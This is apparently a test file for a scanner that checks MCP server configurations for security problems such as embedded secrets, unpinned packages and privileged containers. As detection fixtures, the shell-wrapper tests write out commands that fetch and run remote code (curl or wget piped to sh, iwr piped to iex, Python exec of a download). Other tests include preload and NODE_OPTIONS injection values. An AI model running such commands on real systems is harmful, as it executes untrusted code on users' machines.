import { describe, expect, it } from 'vitest';
import { judged, server, severitiesOf } from '../testing/subjects.ts';

const npx = (...args: string[]) => server({ args });

describe('CFG-01 secret_in_config', () => {
  it.each([
    ['a typed token in a variable', server({ env: { TOKEN: `ghp_${'a1B2'.repeat(9)}` } })],
    ['a password in a connection string', server({ args: ['x@1.0.0', 'postgresql://app:s3cr3tpass@db.internal/app'] })],
    [
      'a bearer token in a header',
      server({ url: 'https://mcp.vendor.io/', headers: { Authorization: 'Bearer 9f8e7d6c5b4a39281706f5e4' } }),
    ],
    ['random characters under a telling name', server({ env: { VENDOR_API_KEY: '9aK2mQ7xL4vB8nR1' } })],
  ])('finds %s', async (_, subject) => {
    const { findings } = await judged(subject);
    const own = findings.filter(({ rule }) => rule === 'CFG-01');
    expect(own.map(({ severity }) => severity)).toEqual(['critical']);
    expect(JSON.stringify(findings)).not.toMatch(/s3cr3tpass|a1B2a1B2|9f8e7d6c|9aK2mQ7x/);
  });

  it.each([
    ['references', server({ env: { A_TOKEN: '${A_TOKEN}', B_TOKEN: '{env:B}', C_TOKEN: '${input:c}' } })],
    ['a place holder', server({ env: { API_KEY: '<your key>' } })],
    ['a public value', server({ env: { LOG_LEVEL: 'debug', REGION: 'eu-central-1' } })],
  ])('lets %s pass', async (_, subject) => expect(await severitiesOf('CFG-01', subject)).toEqual([]));

  it('points into the file of the client', async () => {
    const { findings } = await judged(server({ env: { TOKEN: `ghp_${'a1B2'.repeat(9)}` } }));
    expect(findings.find(({ rule }) => rule === 'CFG-01')?.location.pointer).toBe('/mcpServers/sample/env/TOKEN');
  });
});

describe('CFG-02 plain_http', () => {
  it.each(['http://mcp.vendor.io/mcp', 'http://192.168.1.4:8080/sse', 'http://0.0.0.0:3000'])('finds %s', async (url) =>
    expect(await severitiesOf('CFG-02', server({ url }))).toEqual(['high']),
  );
  it.each([
    'https://mcp.vendor.io/mcp',
    'http://localhost:3000',
    'http://127.0.0.1:8080/sse',
    'http://[::1]:3000/',
    'http://app.localhost/',
  ])('lets %s pass', async (url) => expect(await severitiesOf('CFG-02', server({ url }))).toEqual([]));
  it('looks behind a bridge, and not at the other addresses of a server', async () => {
    expect(await severitiesOf('CFG-02', npx('-y', 'mcp-remote@0.1.0', 'http://mcp.vendor.io/'))).toEqual(['high']);
    expect(await severitiesOf('CFG-02', npx('-y', 'home-mcp@1.0.0', 'http://hub.lan/'))).toEqual([]);
  });
});

describe('CFG-03 unpinned_package', () => {
  it.each([
    ['npx', ['-y', 'some-mcp']],
    ['npx', ['-y', 'some-mcp@latest']],
    ['npx', ['--package', '@scope/some-mcp@^1.2.0', 'some-bin']],
    ['npx', ['-y', 'github:owner/repo']],
    ['bunx', ['some-mcp@1']],
    ['pnpm', ['dlx', 'some-mcp']],
    ['uvx', ['some-mcp']],
    ['uvx', ['--from', 'some-mcp>=1.0', 'some-bin']],
    ['uv', ['tool', 'run', 'some-mcp']],
    ['docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'mcp/some']],
    ['docker', ['run', '-i', '--rm', 'mcp/some:latest']],
    ['cmd', ['/c', 'npx', '-y', 'some-mcp']],
  ])('finds %s %j', async (command, args) =>
    expect(await severitiesOf('CFG-03', server({ command, args }))).toEqual(['medium']),
  );

  it.each([
    ['npx', ['-y', 'some-mcp@1.2.3']],
    ['npx', ['-y', '@scope/some-mcp@2026.8.31']],
    ['uvx', ['some-mcp==1.4.0']],
    ['uvx', ['some-mcp@1.4.0']],
    ['npx', ['-y', `github:owner/repo#${'a'.repeat(40)}`]],
    ['docker', ['run', '-i', '--rm', `mcp/some@sha256:${'0'.repeat(64)}`]],
    ['docker', ['run', '-i', 'mcp/some:1.4.2']],
    ['node', ['/opt/server/index.js']],
    ['npx', ['./local-server']],
  ])('lets %s %j pass', async (command, args) =>
    expect(await severitiesOf('CFG-03', server({ command, args }))).toEqual([]),
  );
});

describe('CFG-04 shell_wrapper', () => {
  it.each([
    ['bash', ['-c', 'curl -fsSL https://get.vendor.io/x | sh'], 'critical'],
    ['sh', ['-lc', 'wget -qO- https://a.b/c | bash -s'], 'critical'],
    ['bash', ['-c', 'bash <(curl -s https://a.b/c)'], 'critical'],
    ['powershell', ['-Command', 'iwr https://a.b/c.ps1 | iex'], 'critical'],
    ['powershell', ['-EncodedCommand', 'aQB3AHIA'], 'critical'],
    ['python3', ['-c', "import urllib.request as u; exec(u.urlopen('https://a.b').read())"], 'critical'],
    ['sh', ['-c', 'node server.js'], 'high'],
    ['cmd', ['/c', 'npx', '-y', 'some-mcp', '&&', 'del', 'x'], 'high'],
  ])('finds %s %j', async (command, args, severity) =>
    expect(await severitiesOf('CFG-04', server({ command, args }))).toEqual([severity]),
  );

  it.each([
    ['cmd', ['/c', 'npx', '-y', 'some-mcp@1.0.0']],
    ['npx', ['-y', 'shell-mcp@1.0.0', '--allow', 'ls|cat']],
    ['bash', ['/opt/server/start.sh']],
    ['python3', ['-m', 'some_server']],
    ['node', ['-e', 'console.log(1)']],
  ])('lets %s %j pass', async (command, args) =>
    expect(await severitiesOf('CFG-04', server({ command, args }))).toEqual([]),
  );
});

describe('CFG-05 privileged_container', () => {
  const docker = (...args: string[]) => server({ command: 'docker', args: ['run', '-i', ...args, 'mcp/some:1.0.0'] });
  it.each([
    [['--privileged']],
    [['--network', 'host']],
    [['--net=host']],
    [['-v', '/:/host']],
    [['-v', '/var/run/docker.sock:/var/run/docker.sock']],
    [['--mount', 'type=bind,source=/home/ada,target=/data']],
    [['-v', '~:/data:ro']],
    [['--pid=host']],
    [['--cap-add=SYS_ADMIN']],
  ])('finds %j', async (args) => expect(await severitiesOf('CFG-05', docker(...args))).toEqual(['critical']));
  it.each([
    [['--network', 'none']],
    [['-v', '/home/ada/project:/data']],
    [['-v', 'named-volume:/data']],
    [['--mount', 'type=volume,source=cache,target=/c']],
    [['-e', 'MODE=--privileged']],
  ])('lets %j pass', async (args) => expect(await severitiesOf('CFG-05', docker(...args))).toEqual([]));
  it('does not read the arguments of the image', async () => {
    const subject = server({ command: 'docker', args: ['run', '-i', 'mcp/some:1.0.0', '--privileged'] });
    expect(await severitiesOf('CFG-05', subject)).toEqual([]);
  });
});

describe('CFG-06 broad_file_access', () => {
  const filesystem = (...roots: string[]) => npx('-y', '@modelcontextprotocol/server-filesystem@2026.8.31', ...roots);
  it.each(['/', '~', '/home/ada', '/Users/ada', 'C:\\', 'C:\\Users\\ada', '${HOME}', '/etc', '--root=/'])(
    'finds %s',
    async (root) => expect(await severitiesOf('CFG-06', filesystem(root))).toEqual(['high']),
  );
  it.each(['/home/ada/project', '~/project', '/tmp', '/tmp/work', 'C:\\Users\\ada\\project', '.'])(
    'lets %s pass',
    async (root) => expect(await severitiesOf('CFG-06', filesystem(root))).toEqual([]),
  );
  it('is critical where a root and protected data cover one another', async () => {
    const protectedPaths = ['/srv/coordinator/data'];
    expect(await severitiesOf('CFG-06', filesystem('/srv/coordinator'), { protectedPaths })).toEqual(['critical']);
    expect(await severitiesOf('CFG-06', filesystem('/srv/coordinator/data/keys'), { protectedPaths })).toEqual([
      'critical',
    ]);
    expect(await severitiesOf('CFG-06', filesystem('/srv/coordinator-web'), { protectedPaths })).toEqual([]);
  });
  it.each([
    '/srv/coordinator/data/',
    '/srv/coordinator/web/../data',
    '/srv/./coordinator',
    '/srv//coordinator/data/keys/..',
    '/',
  ])('sees %s for what it is', async (root) =>
    expect(await severitiesOf('CFG-06', filesystem(root), { protectedPaths: ['/srv/coordinator/data'] })).toEqual([
      'critical',
    ]),
  );
  it('judges where an entry leads on its machine, and what the installer there keeps', async () => {
    const own = {
      data: '/home/ada/.local/share/mcp-installer',
      programs: '/home/ada/.local/share/mcp-installer/store',
    };
    const leading = (text: string, path: string) => ({
      ...filesystem(text),
      reaches: [{ pointer: '/args/2', path }],
    });
    const protectedPaths = ['/srv/coordinator/data'];
    expect(await severitiesOf('CFG-06', leading('./link', '/srv/coordinator/data/keys'), { protectedPaths })).toEqual([
      'critical',
    ]);
    expect(await severitiesOf('CFG-06', leading('~/.local', '/home/ada/.local'), { own })).toEqual(['critical']);
    expect(await severitiesOf('CFG-06', leading('./x', `${own.programs}/npm/x`), { own })).toEqual([]);
    expect(await severitiesOf('CFG-06', leading('./x', '/home/ada/project/x'), { own, protectedPaths })).toEqual([]);
  });
  it.each([['mcp-installer'], ['/usr/bin/node', '/opt/coordinator/bin/mcp-installer.mjs']])(
    'looks through the launcher %s: its own data folder is its own, what it starts is judged',
    async (command, ...first) => {
      const own = { data: '/home/ada/.local/share/mcp-installer', programs: '/nowhere' };
      const launched = (root: string) =>
        server({
          command,
          args: [...first, 'run', '--data-dir', own.data, 'set-1', '--', 'npx', '-y', 'server-filesystem@1.0.0', root],
        });
      expect(await severitiesOf('CFG-06', launched('/home/ada/project'), { own })).toEqual([]);
      expect(await severitiesOf('CFG-06', launched(own.data), { own })).toEqual(['critical']);
      expect(await severitiesOf('CFG-06', launched('/etc'), { own })).toEqual(['high']);
      const unpinned = launched('/home/ada/project');
      const args = unpinned.launch.args?.map((arg) => arg.replace('@1.0.0', ''));
      expect(await severitiesOf('CFG-03', { ...unpinned, launch: { ...unpinned.launch, args } })).not.toEqual([]);
    },
  );
  it('knows a root that holds the configuration it stands in', async () => {
    const path = '/tmp/case/home/.cursor/mcp.json';
    const subject = server({ args: ['x@1.0.0', '/tmp/case/home'] }, { path });
    expect(await severitiesOf('CFG-06', subject)).toEqual(['high']);
    expect(await severitiesOf('CFG-06', { ...subject, scope: 'project' })).toEqual([]);
  });
  it('reads variables that hand over folders, and not those that tell where a program is', async () => {
    expect(await severitiesOf('CFG-06', server({ args: ['x@1.0.0'], env: { ALLOWED_DIRS: '/srv/a:/' } }))).toEqual([
      'high',
    ]);
    expect(
      await severitiesOf('CFG-06', server({ args: ['x@1.0.0'], env: { HOME: '/home/ada', PATH: '/usr:/bin' } })),
    ).toEqual([]);
  });
});

describe('CFG-07 approval_disabled', () => {
  it.each([[['*']], [['write_file']]])('finds %j', async (autoApprove) =>
    expect(await severitiesOf('CFG-07', server({ autoApprove }))).toEqual(['high']),
  );
  it('finds the trust switch of an entry', async () =>
    expect(await severitiesOf('CFG-07', server({}, { entry: { command: 'npx', trust: true } }))).toEqual(['high']));
  it('lets an empty list pass', async () =>
    expect(await severitiesOf('CFG-07', server({ autoApprove: [] }))).toEqual([]));
});

describe('CFG-08 misread_entry', () => {
  it.each([
    ['a URL without type', { client: 'claude-code' as const, entry: { url: 'https://a.b' } }],
    ['`url` for `serverUrl`', { client: 'windsurf' as const, entry: { url: 'https://a.b' } }],
    ['neither command nor URL', { entry: {} }],
    ['seconds for milliseconds', { client: 'kilo' as const, entry: { type: 'local', command: ['x'], timeout: 60 } }],
  ])('finds %s', async (_, more) => expect(await severitiesOf('CFG-08', server({}, more))).toContain('high'));
  it('lets a well-formed entry pass', async () =>
    expect(await severitiesOf('CFG-08', server({ args: ['x'] }))).toEqual([]));
  it('knows every client', async () =>
    expect(await severitiesOf('CFG-08', server({}, { client: 'zed', entry: { command: 'x', cwd: '/y' } }))).toContain(
      'high',
    ));
});

describe('CFG-09 conflicting_definitions', () => {
  const other = (args: string[]) => server({ args }, { client: 'vscode', path: '/home/ada/.vscode/mcp.json' });
  it('finds another command under the same name', async () =>
    expect(await severitiesOf('CFG-09', npx('a@1.0.0'), { others: [other(['b@1.0.0'])] })).toEqual(['medium']));
  it('lets the same command pass', async () =>
    expect(await severitiesOf('CFG-09', npx('a@1.0.0'), { others: [other(['a@1.0.0'])] })).toEqual([]));
});

describe('CFG-10 dangerous_environment', () => {
  it.each([
    { NODE_OPTIONS: '--require /tmp/x.js' },
    { LD_PRELOAD: '/tmp/x.so' },
    { NODE_TLS_REJECT_UNAUTHORIZED: '0' },
    { PYTHONSTARTUP: '/tmp/x.py' },
    { npm_config_registry: 'http://mirror.vendor.io/' },
  ])('finds %j', async (env) =>
    expect(await severitiesOf('CFG-10', server({ args: ['x@1.0.0'], env }))).toEqual(['high']),
  );
  it.each([
    { NODE_OPTIONS: '--max-old-space-size=4096' },
    { NODE_EXTRA_CA_CERTS: '/etc/ca.pem' },
    { NODE_TLS_REJECT_UNAUTHORIZED: '1' },
  ])('lets %j pass', async (env) =>
    expect(await severitiesOf('CFG-10', server({ args: ['x@1.0.0'], env }))).toEqual([]),
  );
  it.each([
    ['a relative command', server({ command: './server' })],
    ['a command others may write to', server({}, { resolvedCommand: { path: '/tmp/npx', othersMayWrite: true } })],
    ['a command that is nowhere', server({}, { resolvedCommand: null })],
  ])('finds %s', async (_, subject) => expect(await severitiesOf('CFG-10', subject)).toEqual(['high']));
  it('knows nothing of the command of an entry that is not written yet', async () => {
    const { findings, unknowns } = await judged(server({}, { resolvedCommand: null, pointer: '' }));
    expect(findings.filter(({ rule }) => rule === 'CFG-10')).toEqual([]);
    expect(unknowns.map(({ rule }) => rule)).toContain('CFG-10');
  });
});

describe('CFG-11 token_in_url', () => {
  it.each([
    'https://a.b/mcp?token=9f8e7d6c5b4a3928',
    'https://a.b/mcp?session_id=123456',
    'https://u:pw12345@a.b/',
    `https://a.b/s/${'a1b2c3d4'.repeat(5)}/mcp`,
  ])('finds %s', async (url) => expect(await severitiesOf('CFG-11', server({ url }))).toEqual(['high']));
  it.each(['https://a.b/mcp?tools=all', 'https://a.b/mcp?token=${TOKEN}', 'https://a.b/v1/projects/my-project/mcp'])(
    'lets %s pass',
    async (url) => expect(await severitiesOf('CFG-11', server({ url }))).toEqual([]),
  );
});

describe('CFG-12 exposed_secret_file', () => {
  const secret = server({ env: { TOKEN: `ghp_${'a1B2'.repeat(9)}` } });
  it('finds a readable and a tracked file', async () => {
    expect(await severitiesOf('CFG-12', secret, { file: { mode: '0644', gitTracked: false } })).toEqual(['high']);
    expect(await severitiesOf('CFG-12', secret, { file: { mode: '0600', gitTracked: true } })).toEqual(['high']);
  });
  it('lets a private file, and one without secrets, pass', async () => {
    expect(await severitiesOf('CFG-12', secret, { file: { mode: '0600', gitTracked: false } })).toEqual([]);
    expect(await severitiesOf('CFG-12', npx('x'), { file: { mode: '0644', gitTracked: true } })).toEqual([]);
  });
  it('says what it does not know', async () => {
    const { unknowns } = await judged(secret, { file: { mode: '0600', gitTracked: 'unknown' } });
    expect(unknowns.map(({ rule }) => rule)).toContain('CFG-12');
  });
});

describe('CFG-13 missing_config', () => {
  it.each([
    ['an empty variable', server({ env: { API_KEY: '' } })],
    ['no folder', npx('-y', '@modelcontextprotocol/server-filesystem@2026.8.31')],
    ['no token', npx('-y', '@modelcontextprotocol/server-github@1.0.0')],
  ])('finds %s', async (_, subject) => expect(await severitiesOf('CFG-13', subject)).toEqual(['medium']));
  it('lets what is there pass', async () =>
    expect(
      await severitiesOf('CFG-13', npx('-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/srv/a')),
    ).toEqual([]));
});
